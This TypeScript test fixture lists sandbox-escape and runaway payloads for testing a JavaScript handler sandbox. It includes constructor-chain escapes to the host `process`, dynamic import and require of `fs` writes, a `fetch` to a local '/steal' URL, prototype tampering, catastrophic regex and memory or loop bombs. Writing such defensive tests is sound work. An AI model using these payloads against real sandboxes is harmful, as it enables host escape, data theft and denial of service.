/**
 * Escape attempts and runaway handlers, as a design someone sent might carry them. Each `body` runs
 * inside an async handler; an escape that reached the host would write `MARKER` (a file path the
 * test passes in) or report the host's `process`. Shared by the engine test and the CLI test.
 */
export interface Vector {
  id: string;
  body: string;
}

/** Tries to write the marker with whatever it got; reports what it saw as the handler's result. */
const write = (get: string) =>
  `const p = ${get}; if (p && p.getBuiltinModule) p.getBuiltinModule('fs').writeFileSync(MARKER, 'escaped'); return { saw: typeof p };`;

export const ESCAPES: Vector[] = [
  { id: 'function-constructor', body: write(`(function(){}).constructor('return process')()`) },
  { id: 'Function-global', body: write(`Function('return process')()`) },
  { id: 'context-constructor', body: write(`context.constructor.constructor('return process')()`) },
  { id: 'event-constructor', body: write(`event.constructor.constructor('return process')()`) },
  { id: 'console-log-constructor', body: write(`console.log.constructor('return process')()`) },
  { id: 'reflect-construct', body: write(`Reflect.construct(Function, ['return process'])()`) },
  {
    id: 'generator-constructor',
    body: write(`(function*(){}).constructor('return process')().next().value`),
  },
  {
    id: 'async-constructor',
    body: `const p = await (async function(){}).constructor('return process')(); return { saw: typeof p };`,
  },
  {
    id: 'math-prototype',
    body: write(`Object.getPrototypeOf(Math).constructor.constructor('return process')()`),
  },
  { id: 'host-function-constructor', body: write(`Math.random.constructor('return process')()`) },
  { id: 'buffer-constructor', body: write(`Buffer.from.constructor('return process')()`) },
  {
    id: 'dynamic-import-in-Function',
    body: `const m = await Function('return import("node:fs")')(); m.writeFileSync(MARKER, 'escaped'); return 1;`,
  },
  {
    id: 'dynamic-import',
    body: `const m = await import('node:fs'); m.writeFileSync(MARKER, 'escaped'); return 1;`,
  },
  { id: 'require', body: `require('fs').writeFileSync(MARKER, 'escaped'); return 1;` },
  { id: 'eval', body: write(`eval('process')`) },
  { id: 'global-this', body: write(`Function('return this')().process`) },
  { id: 'fetch', body: `await fetch('http://127.0.0.1:9/steal?' + MARKER); return 1;` },
  {
    id: 'xhr-websocket-indexeddb',
    body: `const g = Function('return this')(); return [typeof g.XMLHttpRequest, typeof g.WebSocket, typeof g.indexedDB, typeof g.importScripts, typeof g.postMessage];`,
  },
  {
    id: 'prototype-edits',
    body: `Array.prototype.push = function () { return 0; }; Math.floor = () => 42; Object.prototype.toJSON = () => 'pwned'; JSON.stringify = () => '{}'; return [1].length;`,
  },
  { id: 'promise-then-edit', body: `Promise.prototype.then = function () { return this; }; return 1;` },
  {
    id: 'hidden-host-hooks',
    body: `return [typeof __random, typeof __now, typeof __b64ToBin, typeof __invoke === 'function'];`,
  },
  {
    id: 'throwing-proxy',
    body: `throw new Proxy({}, { getPrototypeOf() { throw new Error('gotcha'); }, get() { throw new Error('gotcha'); } });`,
  },
  {
    id: 'error-prepare-stack-trace',
    body: `Error.prepareStackTrace = (e, s) => s[0].getThis(); return new Error('x').stack;`,
  },
  {
    id: 'sharedarraybuffer-atomics',
    body: `return [typeof SharedArrayBuffer, typeof Atomics, typeof WebAssembly];`,
  },
];

/** Code that never ends or never stops growing: each must end as a timeout or an error. */
export const RUNAWAYS: Vector[] = [
  { id: 'catastrophic-regex', body: `return /^(a+)+$/.test('a'.repeat(34) + 'b');` },
  { id: 'while-true', body: `while (true) {}` },
  { id: 'while-true-guarded', body: `for (;;) { try { while (true) {} } catch (e) {} }` },
  { id: 'Function-loop', body: `Function('while(true){}')();` },
  { id: 'array-1e9', body: `return new Array(1e9).fill(0).length;` },
  {
    id: 'retained-200MB',
    body: `globalThis.keep = globalThis.keep || []; keep.push(new Array(25e6).fill(1)); return keep.length;`,
  },
  { id: 'microtask-loop', body: `const loop = () => Promise.resolve().then(loop); loop(); return 1;` },
  { id: 'deep-recursion', body: `const f = (n) => f(n + 1) + 1; return f(0);` },
  { id: 'string-bomb', body: `let s = 'x'; for (;;) s += s; ` },
  { id: 'never-settles', body: `await new Promise(() => {});` },
];

export function handlerSource(body: string, marker: string): string {
  return `const MARKER = ${JSON.stringify(marker)};\nexport const handler = async (event, context) => {\n${body}\n};\n`;
}
